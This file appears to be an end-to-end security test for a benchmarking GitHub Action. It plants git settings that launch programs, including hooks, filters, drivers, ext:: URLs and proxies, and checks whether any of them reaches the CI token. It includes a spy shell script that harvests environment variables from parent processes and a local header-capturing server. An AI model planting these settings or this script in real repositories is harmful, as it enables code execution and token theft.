import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { ActionResult } from "../../__tests__/e2e/kit/runner.ts";
import { type Cell, FILES, numbers, type Stage, TOKEN, type Wanted } from "./stage.ts";

/** Keys whose value is a program that git starts, or an address that it talks to, by the words in their names. */
const TELLING =
  /command|program|cmd|path$|hook|helper|url|proxy|editor|pager|driver|textconv|filter|clean|smudge|process|askpass|fsmonitor|pack$|tool|browser|alternate|insteadof|template|ssh|exec|trustexit|signer|include|vcs|difftool|mergetool|worktree/i;

/** Keys with such words that take a switch, a number or a word of git's own, or would have git look at another repository. */
const OTHER =
  /^(?:core\.worktree|extensions|safe|index|init|include|advice|color|column|completion|guitool\.x\.(?!cmd)|uploadpackfilter|fsck|receive\.fsck)|quotePath|useHttpPath|HookVersion|requireForce|allow(?!edSigners)|hide|keep|prompt|trust|useAuto|hasOutput|inUrl|maxNew|guess|reschedule|abbreviate|showInclude|cachetextconv|filterSubmodules|IfIncludes|PasswordProtected|cleanup|partialclonefilter|PruneExpire|AuthMethod|Prefixes$|alternate(?:Location|ErrorStrategy)|writeToTemp|ssh\.variant|layout/i;

/** What stands in the place of a name that the user chooses: those that git itself would look for. */
const NAMES: Readonly<Record<string, readonly string[]>> = {
  remote: ["origin"],
  branch: ["main"],
  submodule: ["x"],
  url: ["PLANTED"],
  http: ["https://github.com/"],
  credential: ["https://github.com"],
};

/** Every key of this git that could start a program or send it elsewhere, from its own list (git-help(1), `--config`). */
function plantable(): readonly string[] {
  const listed = execFileSync("git", ["help", "--config"], { encoding: "utf8" }).split("\n");
  const drivers = [
    "filter.x.clean",
    "filter.x.smudge",
    "filter.x.process",
    "diff.x.command",
    "diff.x.textconv",
    "merge.x.driver",
  ];
  const keys = listed
    .filter((line) => /^[a-z]\w*\./i.test(line))
    .flatMap((key) => {
      if (!/[<*]/.test(key)) return [key];
      const names = NAMES[key.split(".")[0]!.toLowerCase()] ?? ["x"];
      return names.map((name) => key.replace(/<[^>]+>|\*/, name)).filter((each) => !/[<*]/.test(each));
    });
  return [...new Set([...keys, ...drivers])].filter((key) => TELLING.test(key) && !OTHER.test(key)).sort();
}

const PLACES = ["config", "worktree config", "a new file of attributes"] as const;
const EVENTS = ["pull request", "push", "fan-in"] as const;

/** One run in a checkout that holds planted settings; nothing of them may run with a token, or meet one. */
export async function* planted(stage: Stage, wanted: Wanted): AsyncGenerator<Cell> {
  const spy = join(stage.folder, "spy");
  const seen = join(stage.folder, "seen");
  writeFileSync(
    spy,
    `#!/bin/sh
{ echo started; env; pid=$PPID
  for i in 1 2 3 4; do tr '\\0' '\\n' < /proc/$pid/environ; pid=$(sed 's/.*) [A-Z] //; s/ .*//' /proc/$pid/stat); done
} >> ${seen} 2>/dev/null
cat 2>/dev/null
`,
    { mode: 0o755 },
  );
  const visits: string[] = [];
  const server = createServer((request, response) => {
    visits.push(JSON.stringify(request.headers));
    response.writeHead(401, { "www-authenticate": "Basic" }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}/x.git`;
  const keys = plantable();
  const values = (key: string) =>
    /proxy$/i.test(key)
      ? elsewhere
      : /url$/i.test(key)
        ? [elsewhere, `ext::${spy}`][key.length % 2]!
        : /insteadof$/i.test(key)
          ? ""
          : /hook.*path|template/i.test(key)
            ? stage.folder
            : spy;
  for (const name of [
    "post-checkout",
    "pre-push",
    "reference-transaction",
    "post-index-change",
    "fsmonitor-watchman",
  ]) {
    writeFileSync(join(stage.folder, name), readFileSync(spy), { mode: 0o755 });
  }
  const secrets = [TOKEN, Buffer.from(`x-access-token:${TOKEN}`).toString("base64")];
  try {
    for (const event of EVENTS) {
      for (const place of PLACES) {
        const name = `${event}, in ${place}`;
        if (!wanted(name, event === "push" && place === "config")) continue;
        yield await stage.cell("planted settings", `${name} (${keys.length} keys)`, { codes: [0] }, async () => {
          rmSync(seen, { force: true });
          visits.length = 0;
          const result = await acted(
            stage,
            event,
            benchOf(
              place,
              keys.map((key) => [key, values(key)] as const),
              spy,
              elsewhere,
            ),
          );
          const leaked = existsSync(seen) ? readFileSync(seen, "utf8") : "";
          const said = [leaked, ...visits].join("\n");
          const met =
            secrets.some((secret) => said.includes(secret)) ||
            visits.some((headers) => headers.includes("authorization"));
          return met
            ? { ...result, exitCode: null, stdout: `${result.stdout}\nA PLANTED SETTING MET THE TOKEN` }
            : result;
        });
      }
    }
  } finally {
    await new Promise((resolve) => server.close(resolve));
  }
}

/** A benchmark that plants settings before it prints its numbers. */
function benchOf(
  place: string,
  settings: readonly (readonly [string, string])[],
  spy: string,
  elsewhere: string,
): string {
  return `import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
const git = (...args) => { try { return execFileSync("git", args, { stdio: ["ignore", "pipe", "ignore"] }).toString().trim(); } catch { return ""; } };
const folder = git("rev-parse", "--git-common-dir");
const scope = ${JSON.stringify(place)} === "worktree config" ? ["--worktree"] : [];
if (scope.length > 0) git("config", "extensions.worktreeConfig", "true");
fs.mkdirSync(folder + "/info", { recursive: true });
fs.appendFileSync(folder + "/info/attributes", "* filter=x diff=x merge=x\\n");
fs.writeFileSync(folder + "/info/exclude", "");
const settings = ${JSON.stringify(settings)};
const text = settings.filter(([, value]) => value !== "").map(([key, value]) => {
  const [first, last] = [key.indexOf("."), key.lastIndexOf(".")];
  const section = first === last ? key.slice(0, first) : key.slice(0, first) + ' "' + key.slice(first + 1, last) + '"';
  return "[" + section + "]\\n\\t" + key.slice(last + 1) + " = " + JSON.stringify(value) + "\\n";
}).join("");
const others = '[url "${elsewhere}"]\\n\\tinsteadOf = file://\\n\\tpushInsteadOf = file://\\n[protocol "ext"]\\n\\tallow = always\\n[filter "x"]\\n\\trequired = true\\n';
if (${JSON.stringify(place)} === "a new file of attributes") {
  fs.writeFileSync(folder + "/planted", '[filter "x"]\\n\\tsmudge = ${spy}\\n\\tclean = ${spy}\\n\\tprocess = ${spy}\\n[diff "x"]\\n\\ttextconv = ${spy}\\n\\tcommand = ${spy}\\n');
  fs.appendFileSync(folder + "/config", "[include]\\n\\tpath = planted\\n[core]\\n\\tattributesFile = " + folder + "/info/attributes\\n");
  fs.mkdirSync(folder + "/objects/info", { recursive: true });
  fs.writeFileSync(folder + "/objects/info/alternates", "/nonexistent\\n");
} else {
  fs.appendFileSync(folder + (scope.length > 0 ? "/config.worktree" : "/config"), text + others);
}
console.log(fs.readFileSync("out.txt", "utf8"));
`;
}

/** The step of an event, in which the benchmark plants before anything is stored, compared or fanned in. */
async function acted(stage: Stage, event: (typeof EVENTS)[number], bench: string): Promise<ActionResult> {
  const config = FILES["benchgate.yml"].replace("cat out.txt", "node bench.mjs").replace("rounds: 6", "rounds: 2");
  const files = { ...FILES, "benchgate.yml": config, "bench.mjs": bench };
  if (event === "push") return stage.act(await stage.pushed(files));
  await stage.pushed({
    ...FILES,
    "benchgate.yml": config,
    "bench.mjs": 'import * as fs from "node:fs"; console.log(fs.readFileSync("out.txt", "utf8"));\n',
  });
  const { checkout } = await stage.pulled({ ...files, "out.txt": numbers(1) });
  if (event === "pull request") return stage.act(checkout, { inputs: { compare: "side-by-side" } });
  const artifacts = join(stage.folder, `cells-${Math.random()}`);
  mkdirSync(artifacts);
  const inputs = { compare: "side-by-side", cell: "linux", comment: "never" };
  await stage.act(checkout, { inputs, upload: join(artifacts, "benchgate-linux") });
  return stage.act(checkout, { inputs: { "fan-in": artifacts, expect: "linux" } });
}
